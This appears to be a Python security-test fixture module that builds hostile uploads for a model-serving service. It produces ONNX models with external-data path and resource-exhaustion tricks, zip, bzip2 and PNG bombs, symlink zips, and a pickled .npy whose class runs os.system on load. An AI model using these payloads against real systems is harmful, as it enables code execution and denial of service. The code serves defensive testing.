"""Hostile files, built in code: the known ONNX, numpy and zip attack patterns, as bytes to upload."""

from __future__ import annotations

import bz2
import functools
import io
import os
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterable

import numpy as np
import onnx
from numpy.lib import format as npformat
from onnx import TensorProto, helper, numpy_helper
from PIL import Image

OPSET = [helper.make_opsetid("", 13)]


def _model(graph: onnx.GraphProto, opset: list[onnx.OperatorSetIdProto] | None = None) -> bytes:
    model = helper.make_model(graph, opset_imports=opset or OPSET, producer_name="qaas-security-tests")
    model.ir_version = 8
    return model.SerializeToString()


def _io(name: str, shape: list[int | str]) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, shape)


# -- models: external data (CVE-2022-25882, CVE-2024-27318, CVE-2024-27319 and follow-ups) -----


def external_data_model(
    location: str, *, offset: int | None = None, length: int | None = 16, elements: int = 4
) -> bytes:
    """y = x + w, where the float initializer `w` lives in an external file at `location`."""
    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[elements])
    weight.data_location = TensorProto.EXTERNAL
    entries = {"location": location}
    if offset is not None:
        entries["offset"] = str(offset)
    if length is not None:
        entries["length"] = str(length)
    for key, value in entries.items():
        weight.external_data.add(key=key, value=value)
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"], name="add")],
        "external",
        [_io("x", [elements])],
        [_io("y", [elements])],
        initializer=[weight],
    )
    return _model(graph)


def weights(elements: int = 4) -> bytes:
    return np.arange(elements, dtype=np.float32).tobytes()


# -- models: operators and sizes -----------------------------------------------------------------


def custom_op_model(domain: str, op_type: str) -> bytes:
    node = helper.make_node(op_type, ["x"], ["y"], name="custom", domain=domain)
    graph = helper.make_graph([node], "custom", [_io("x", [1])], [_io("y", [1])])
    return _model(graph, [*OPSET, helper.make_opsetid(domain, 1)])


def constant_of_shape_model(dims: list[int]) -> bytes:
    """A few hundred bytes that ask ONNX Runtime for prod(dims) floats when run."""
    shape = numpy_helper.from_array(np.array(dims, dtype=np.int64), "shape")
    nodes = [
        helper.make_node(
            "ConstantOfShape",
            ["shape"],
            ["big"],
            name="fill",
            value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]),
        ),
        helper.make_node("ReduceSum", ["big"], ["total"], name="sum", keepdims=0),
        helper.make_node("Add", ["x", "total"], ["y"], name="add"),
    ]
    graph = helper.make_graph(nodes, "fill", [_io("x", ["batch", 4])], [_io("y", ["batch", 4])], initializer=[shape])
    return _model(graph)


def expand_model(dims: list[int]) -> bytes:
    shape = numpy_helper.from_array(np.array(dims, dtype=np.int64), "shape")
    one = numpy_helper.from_array(np.ones((1,), dtype=np.float32), "one")
    nodes = [
        helper.make_node("Expand", ["one", "shape"], ["big"], name="expand"),
        helper.make_node("ReduceSum", ["big"], ["total"], name="sum", keepdims=0),
        helper.make_node("Add", ["x", "total"], ["y"], name="add"),
    ]
    graph = helper.make_graph(nodes, "expand", [_io("x", [4])], [_io("y", [4])], initializer=[shape, one])
    return _model(graph)


def declared_huge_initializer() -> bytes:
    """An initializer that declares 4 TiB of floats and holds none."""
    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1 << 40])
    graph = helper.make_graph(
        [helper.make_node("Identity", ["x"], ["y"], name="id")],
        "huge",
        [_io("x", [1])],
        [_io("y", [1])],
        initializer=[weight],
    )
    return _model(graph)


def many_nodes_model(count: int) -> bytes:
    graph = helper.make_graph([], "many", [_io("x", [1])], [_io("y", [1])])
    chain = [helper.make_node("Identity", [f"t{i}"], [f"t{i + 1}"]) for i in range(count)]
    chain[0].input[0] = "x"
    chain[-1].output[0] = "y"
    graph.node.extend(chain)
    return _model(graph)


def deep_subgraph_model(depth: int) -> bytes:
    """`If` nodes nested `depth` levels deep, each branch holding the next level."""
    inner = helper.make_graph([helper.make_node("Identity", ["x"], ["out0"])], "leaf", [], [_io("out0", [1])])
    for level in range(1, depth + 1):
        leaf = helper.make_graph(
            [helper.make_node("Identity", ["x"], [f"out{level - 1}"])],
            "leaf",
            [],
            [_io(f"out{level - 1}", [1])],
        )
        node = helper.make_node("If", ["cond"], [f"out{level}"], name=f"if{level}", then_branch=inner, else_branch=leaf)
        inner = helper.make_graph([node], f"level{level}", [], [_io(f"out{level}", [1])])
    top = helper.make_graph(
        [*inner.node, helper.make_node("Identity", [f"out{depth}"], ["y"])],
        "deep",
        [_io("x", [1]), helper.make_tensor_value_info("cond", TensorProto.BOOL, [])],
        [_io("y", [1])],
    )
    return _model(top)


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _field(number: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def nested_beyond_parser_limit(depth: int = 500) -> bytes:
    """`If` graphs nested `depth` deep, encoded by hand: protobuf itself refuses to build a message
    this deep, and the service's parser must refuse to read it rather than overflow its stack."""
    graph = _field(1, _field(1, "x") + _field(2, "y") + _field(4, "Identity")) + _field(2, "leaf")
    for level in range(depth):
        attribute = _field(1, "then_branch") + _field(6, graph) + _varint(20 << 3) + _varint(5)
        node = _field(1, "cond") + _field(2, "y") + _field(3, f"if{level}") + _field(4, "If") + _field(5, attribute)
        graph = _field(1, node) + _field(2, f"level{level}")
    opset = _varint(2 << 3) + _varint(13)
    return _varint(1 << 3) + _varint(8) + _field(7, graph) + _field(8, opset)


def cyclic_model() -> bytes:
    nodes = [
        helper.make_node("Add", ["x", "b"], ["a"], name="a"),
        helper.make_node("Relu", ["a"], ["b"], name="b"),
        helper.make_node("Identity", ["a"], ["y"], name="out"),
    ]
    return _model(helper.make_graph(nodes, "cycle", [_io("x", [1])], [_io("y", [1])]))


def identity_with_initializer(weight: TensorProto) -> bytes:
    graph = helper.make_graph(
        [helper.make_node("Identity", ["x"], ["y"], name="id")],
        "odd",
        [_io("x", [1])],
        [_io("y", [1])],
        initializer=[weight],
    )
    return _model(graph)


def unknown_type_model() -> bytes:
    return identity_with_initializer(TensorProto(name="w", data_type=999, dims=[1], raw_data=b"\0" * 4))


def short_raw_data_model() -> bytes:
    """Declares 1024 floats and holds 2 bytes: a reader trusting the dims would read past the buffer."""
    return identity_with_initializer(TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1024], raw_data=b"\0\0"))


def long_loop_model(iterations: int = 10**12) -> bytes:
    """A valid model that runs (practically) forever: a Loop with a huge constant trip count."""
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Add", ["acc_in", "one"], ["acc_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            _io("acc_in", [4]),
        ],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), _io("acc_out", [4])],
        initializer=[numpy_helper.from_array(np.ones((4,), np.float32), "one")],
    )
    graph = helper.make_graph(
        [helper.make_node("Loop", ["trips", "keep_going", "x"], ["y"], name="spin", body=body)],
        "spin",
        [_io("x", ["batch", 4])],
        [_io("y", ["batch", 4])],
        initializer=[
            numpy_helper.from_array(np.array(iterations, np.int64), "trips"),
            numpy_helper.from_array(np.array(True), "keep_going"),
        ],
    )
    return _model(graph)


# -- arrays ---------------------------------------------------------------------------------------


class Exploit:
    """Unpickling this runs a shell command: what `np.load(allow_pickle=True)` would do."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def pickled_npy(command: str) -> bytes:
    array = np.empty(1, dtype=object)
    array[0] = Exploit(command)
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    return buf.getvalue()


def npy_header(shape: tuple[int, ...], descr: object = "<f4") -> bytes:
    buf = io.BytesIO()
    npformat.write_array_header_1_0(buf, {"descr": descr, "fortran_order": False, "shape": shape})
    return buf.getvalue()


def raw_npy_header(text: str) -> bytes:
    """A version 1.0 .npy header holding whatever `text` says, padded as numpy pads it."""
    data = text.encode("latin1") + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(data)) + data


def members_zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip of these members, named as given (an .npz is one; so is a .zip of external data)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def zeros_npz_member(name: str, nbytes: int) -> bytes:
    """A deflated .npz whose one float32 member is `nbytes` of zeros: a high-ratio zip bomb."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w", force_zip64=True) as out:
        out.write(npy_header((nbytes // 4,)))
        chunk = bytes(1 << 20)
        left = nbytes
        while left:
            out.write(chunk[: min(left, len(chunk))])
            left -= min(left, len(chunk))
    return buf.getvalue()


def many_entries_zip(count: int) -> bytes:
    """`count` empty directory entries: the smallest archive with that many entries."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for i in range(count):
            zf.writestr(zipfile.ZipInfo(f"{i}/"), b"")
    return buf.getvalue()


# -- zips and images ------------------------------------------------------------------------------


def zip_of(entries: Iterable[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name)  # keeps the name as given: no sanitising on the way in
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


def symlink_zip(name: str, target: str, extra: Iterable[tuple[str, bytes]] = ()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo(name)
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, target)
        for entry, data in extra:
            zf.writestr(entry, data)
    return buf.getvalue()


def png(width: int = 8, height: int = 8) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (width, height), (120, 30, 200)).save(buf, format="PNG")
    return buf.getvalue()


def bomb_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG of a few dozen bytes whose header declares width x height pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


PREPROCESS = '{"input": "input", "size": [8, 8], "layout": "NCHW"}'


# -- zip members that lie about what they inflate to (issue #23) --------------------------------------

_BZ2_END = 0x177245385090  # a bzip2 stream's end-of-stream magic (48 bits), then its CRC (32 bits)
_BZ2_ZEROS = 40 << 20  # zeros in one bzip2 block: its first pass (RLE) lets a 900k block hold ~45 MB of them


def _bzip2_block(data: bytes) -> tuple[int, int, int]:
    """`data` as one bzip2 block: its bits (an int), how many, and its CRC."""
    stream = bz2.compress(data, 9)
    value, total = int.from_bytes(stream, "big"), len(stream) * 8
    end = next(e for pad in range(8) if (value >> (total - (e := total - pad - 80) - 48)) & ((1 << 48) - 1) == _BZ2_END)
    length = end - 32  # after the 4-byte header "BZh9"
    block = (value >> (total - end)) & ((1 << length) - 1)
    crc = (block >> (length - 80)) & 0xFFFFFFFF  # after the 48-bit block magic
    assert (value >> (total - end - 80)) & 0xFFFFFFFF == crc, "more than one block"  # one block: stream CRC = its CRC
    return block, length, crc


@functools.cache
def _bzip2_zeros_block() -> tuple[int, int, int]:
    return _bzip2_block(bytes(_BZ2_ZEROS))


def bzip2_bomb(head: bytes, inflated: int = 1 << 30) -> bytes:
    """A bzip2 stream of a few hundred bytes that inflates to `head` then zeros, at least `inflated`
    bytes in all: a block of `head`, then one block of zeros over and over (compressing a GiB would
    take seconds; copying a block is free)."""
    copies = -(-(inflated - len(head)) // _BZ2_ZEROS)
    bits, length, combined = int.from_bytes(b"BZh9", "big"), 32, 0
    for block, size, crc in [*([_bzip2_block(head)] if head else []), *[_bzip2_zeros_block()] * copies]:
        bits, length = bits << size | block, length + size
        combined = ((combined << 1 | combined >> 31) & 0xFFFFFFFF) ^ crc
    bits, length = bits << 80 | _BZ2_END << 32 | combined, length + 80
    pad = -length % 8
    return (bits << pad).to_bytes((length + pad) // 8, "big")


def patched_zip(
    members: dict[str, bytes],
    name: str,
    *,
    method: int | None = None,
    declared: int | None = None,
    crc: int | None = None,
) -> bytes:
    """`members` stored as they are, then the compression method, uncompressed size and CRC of member
    `name` rewritten in its local and central headers: bytes compressed beforehand become a member
    of that method, and any member can lie about its size."""
    data = bytearray(members_zip(members))
    local = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name).header_offset
    central = struct.unpack_from("<L", data, len(data) - 6)[0]  # where the end record says the directory starts
    while data[central + 46 : central + 46 + struct.unpack_from("<H", data, central + 28)[0]] != name.encode():
        central += 46 + sum(struct.unpack_from("<3H", data, central + 28))  # the name, extra field and comment
    for at in (local, central + 2):  # a central header holds the local header's fields 2 bytes further on
        if method is not None:
            struct.pack_into("<H", data, at + 8, method)
        if crc is not None:
            struct.pack_into("<I", data, at + 14, crc)
        if declared is not None:
            struct.pack_into("<I", data, at + 22, declared)
    return bytes(data)


def bzip2_bomb_zip(name: str, head: bytes, inflated: int = 1 << 30) -> bytes:
    """A zip of one bzip2 member that declares `head` (its size and CRC) and inflates to `inflated` bytes."""
    return patched_zip(
        {name: bzip2_bomb(head, inflated)}, name, method=zipfile.ZIP_BZIP2, declared=len(head), crc=zlib.crc32(head)
    )


def npy_of(nbytes: int) -> bytes:
    """A float32 .npy of exactly `nbytes` bytes (a multiple of 4 past its header), zeros."""
    header = npy_header((0,))
    header = npy_header(((nbytes - len(header)) // 4,))
    return header + bytes(nbytes - len(header))


# -- models: where tensors live and what they name (issue #23, point 2) ----------------------------


def inline_model(nbytes: int) -> bytes:
    """y = w: one uint8 initializer of `nbytes` held in the protobuf itself (no external data)."""
    weight = TensorProto(name="w", data_type=TensorProto.UINT8, dims=[nbytes], raw_data=bytes(nbytes))
    graph = helper.make_graph(
        [helper.make_node("Identity", ["w"], ["y"], name="id")],
        "inline",
        [],
        [helper.make_tensor_value_info("y", TensorProto.UINT8, [nbytes])],
        initializer=[weight],
    )
    return _model(graph)


def external_tensor(name: str, entries: list[tuple[str, str]], elements: int = 4) -> TensorProto:
    """A float tensor whose bytes are elsewhere, with these external_data entries, in this order."""
    weight = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[elements])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in entries:
        weight.external_data.add(key=key, value=value)
    return weight


def external_entries_model(entries: list[tuple[str, str]]) -> bytes:
    """y = x + w, `w` external with exactly these entries (a key may come twice: readers disagree on
    which one counts, onnx's Python takes the last, a walk over the entries sees every one)."""
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"], name="add")],
        "external",
        [_io("x", [4])],
        [_io("y", [4])],
        initializer=[external_tensor("w", entries)],
    )
    return _model(graph)


def training_info_model(entries: list[tuple[str, str]]) -> bytes:
    """y = x + w, and a training_info whose initialization graph makes a new `w` from an external
    tensor with these entries. onnx.checker never visits training_info."""
    model = onnx.load_from_string(external_entries_model([("location", "weights.bin"), ("length", "16")]))
    init = helper.make_graph(
        [helper.make_node("Identity", ["seed"], ["w_new"], name="init")],
        "initialization",
        [],
        [_io("w_new", [4])],
        initializer=[external_tensor("seed", entries)],
    )
    info = model.training_info.add()
    info.initialization.CopyFrom(init)
    info.initialization_binding.add(key="w", value="w_new")
    return model.SerializeToString()


def function_default_model(location: str) -> bytes:
    """y = x + Offset(), a model-local function whose tensor attribute `value` defaults to an
    external tensor at `location` (FunctionProto.attribute_proto)."""
    constant = helper.make_node("Constant", [], ["c"], name="offset_value")
    constant.attribute.add(name="value", ref_attr_name="value", type=onnx.AttributeProto.TENSOR)
    body = [constant, helper.make_node("Add", ["a", "c"], ["b"], name="add")]
    default = helper.make_attribute("value", external_tensor("offset", [("location", location), ("length", "16")]))
    function = helper.make_function(
        "local", "Offset", ["a"], ["b"], body, OPSET, attributes=[], attribute_protos=[default]
    )
    graph = helper.make_graph(
        [helper.make_node("Offset", ["x"], ["y"], name="offset", domain="local")],
        "function-default",
        [_io("x", [4])],
        [_io("y", [4])],
    )
    model = helper.make_model(
        graph, opset_imports=[*OPSET, helper.make_opsetid("local", 1)], producer_name="qaas-security-tests"
    )
    model.ir_version = 9
    model.functions.append(function)
    return model.SerializeToString()
